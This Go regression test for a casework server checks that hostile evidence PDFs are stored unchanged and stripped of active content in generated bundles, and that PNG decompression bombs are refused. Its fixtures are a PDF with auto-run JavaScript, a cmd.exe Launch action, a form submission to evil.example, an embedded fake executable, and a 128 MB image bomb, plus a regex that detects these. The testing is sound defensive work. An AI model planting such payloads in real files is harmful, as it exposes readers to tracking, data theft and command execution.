package server_test

import (
	"bytes"
	"compress/zlib"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/cynllun/cynllun/internal/pdftest"
	"github.com/cynllun/cynllun/internal/redistest"
)

// hostilePDF is a two-page PDF holding the active content of issue #14
// item 8 — JavaScript run when the document and its first page open, links
// with /JS, /Launch, /URI, /GoToR, /SubmitForm and /ImportData actions, an
// embedded file and a file attachment — and one link to its own second
// page. Every payload names evil.example.
func hostilePDF() []byte {
	js := "<< /S /JavaScript /JS (app.launchURL\\('https://evil.example/js'\\)) >>"
	link := func(y int, action string) string {
		return fmt.Sprintf("<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] /A %s >>", y, y+16, action)
	}
	content := "BT /F1 12 Tf 72 720 Td (Hostile evidence page) Tj ET"
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R /Names << /JavaScript << /Names [(init) 7 0 R] >> /EmbeddedFiles << /Names [(evil.example.exe) 15 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 595 842] >>",
		"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> /AA << /O 7 0 R >> /Annots [8 0 R 9 0 R 10 0 R 11 0 R 12 0 R 13 0 R 14 0 R 17 0 R] >>",
		"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		js, // 7
		link(600, js),
		link(570, "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c start https://evil.example/) >> >>"),
		link(540, "<< /S /URI /URI (https://evil.example/track) >>"),
		link(510, "<< /S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] >>"),
		link(480, "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"),
		link(450, "<< /S /ImportData /F (evil.example.fdf) >>"),
		"<< /Type /Annot /Subtype /FileAttachment /Rect [72 420 90 436] /FS 15 0 R /Contents (attached) >>", // 14
		"<< /Type /Filespec /F (evil.example.exe) /UF (evil.example.exe) /EF << /F 16 0 R >> >>",
		"<< /Type /EmbeddedFile /Length 24 >>\nstream\nMZ evil.example payload.\nendstream",
		"<< /Type /Annot /Subtype /Link /Rect [72 390 300 406] /Border [0 0 0] /Dest [4 0 R /Fit] >>", // 17: stays
	}
	return pdftest.Raw("1.7", objs...)
}

// activeContent finds the names of active content and the payload.
var activeContent = regexp.MustCompile(`/(JS|JavaScript|Launch|SubmitForm|ImportData|GoToR|GoToE|EmbeddedFiles?|FileAttachment|URI|AA)\b|evil\.example`)

// sixteenBitPNG is a width × height 16-bit RGB PNG of zeros, written a row
// at a time: about 100 KB at 4000 × 4000, 128 MB decoded.
func sixteenBitPNG(t *testing.T, width, height int) []byte {
	t.Helper()
	chunk := func(typ string, data []byte) []byte {
		b := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		b = append(append(b, typ...), data...)
		return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
	}
	ihdr := binary.BigEndian.AppendUint32(nil, uint32(width))
	ihdr = binary.BigEndian.AppendUint32(ihdr, uint32(height))
	ihdr = append(ihdr, 16, 2, 0, 0, 0)
	row := make([]byte, 1+6*width)
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	for range height {
		if _, err := zw.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	b := append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", ihdr)...)
	return append(append(b, chunk("IDAT", z.Bytes())...), chunk("IEND", nil)...)
}

// TestHostileEvidence is the regression test of issue #14 items 8 and 9
// through the API: an evidence PDF with page-open and link JavaScript,
// Launch, URI, GoToR, SubmitForm and ImportData actions and an embedded
// file is accepted and stored as uploaded, and none of that reaches the
// bundle the worker builds; image bombs (a 16-bit PNG, as an attachment and
// as evidence) are refused with INVALID and store nothing.
func TestHostileEvidence(t *testing.T) {
	if _, err := exec.LookPath("qpdf"); err != nil && os.Getenv("CYNLLUN_SKIP_PDF_TOOLS") != "1" {
		t.Fatal("qpdf not found: install qpdf, or set CYNLLUN_SKIP_PDF_TOOLS=1")
	}
	e := newEnvOn(t, redistest.StartOwn(t))
	e.startWorker()
	f := e.fixture()
	parent := e.token(f.parent)

	open := `mutation($in: OpenCaseInput!) { openCase(input: $in) { case { id } } }`
	caseID := e.must(parent, open, map[string]any{"in": map[string]any{"learnerId": f.l1, "kind": "DISAGREEMENT", "title": "Anghytundeb",
		"decision": map[string]any{"kind": "WELSH_PROVISION"}}}).str("openCase", "case", "id")

	// Image bombs: refused from the header, nothing stored.
	bomb := sixteenBitPNG(t, 4000, 4000)
	files, evidence := e.docs("files.files"), e.docs("caseEvidence")
	rr := e.addEvidence(parent, map[string]any{"caseId": caseID, "title": "Llun", "kind": "CHILDS_VIEWS"}, "llun.png", "image/png", bomb)
	if rr.code() != "INVALID" || !strings.Contains(string(rr.raw), "would take 123 MiB of memory to decode") {
		t.Errorf("evidence image bomb: %s", rr.raw)
	}
	rr = e.upload(parent, f.l1, "llun.png", "image/png", bomb)
	if rr.code() != "INVALID" || !strings.Contains(string(rr.raw), "too large to open") {
		t.Errorf("attachment image bomb: %s", rr.raw)
	}
	if nf, ne := e.docs("files.files"), e.docs("caseEvidence"); nf != files || ne != evidence {
		t.Fatalf("refused image bombs stored %d files and %d evidence documents", nf-files, ne-evidence)
	}

	// The hostile PDF is evidence as uploaded: stored byte for byte.
	pdf := hostilePDF()
	rr = e.addEvidence(parent, map[string]any{"caseId": caseID, "title": "Llythyr", "kind": "CORRESPONDENCE", "date": "2026-06-01"}, "letter.pdf", "application/pdf", pdf)
	if rr.code() != "OK" {
		t.Fatalf("add hostile PDF: %s", rr.raw)
	}
	sum := sha256.Sum256(pdf)
	if got := rr.str("addEvidence", "evidence", "sha256"); got != hex.EncodeToString(sum[:]) {
		t.Errorf("stored digest %s, uploaded %x", got, sum)
	}

	// The LA prepares the bundle (issue 17); the parent reads it.
	b := e.must(e.token(f.officer), `mutation($id: ID!) { renderBundle(input: {caseId: $id}) { bundle { id } } }`, map[string]any{"id": caseID})
	done := e.waitBundle(parent, b.str("renderBundle", "bundle", "id"))
	resp, bundle := e.get(parent, "/files/"+done.str("bundle", "file", "id"))
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("download bundle: %d", resp.StatusCode)
	}
	if m := activeContent.FindAll(bundle, -1); len(m) > 0 {
		t.Errorf("bundle holds %q", m)
	}
	if _, err := exec.LookPath("qpdf"); err == nil {
		path := filepath.Join(t.TempDir(), "bundle.pdf")
		if err := os.WriteFile(path, bundle, 0o600); err != nil {
			t.Fatal(err)
		}
		qdf, err := exec.Command("qpdf", "--qdf", "--object-streams=disable", path, "-").Output()
		if err != nil {
			t.Fatalf("qpdf: %v", err)
		}
		if m := activeContent.FindAll(qdf, -1); len(m) > 0 {
			t.Errorf("qpdf --qdf finds %q in the bundle", m)
		}
		// The document's own link to its second page is still there.
		if !bytes.Contains(qdf, []byte("/Subtype /Link")) {
			t.Error("bundle has no links")
		}
	}
}
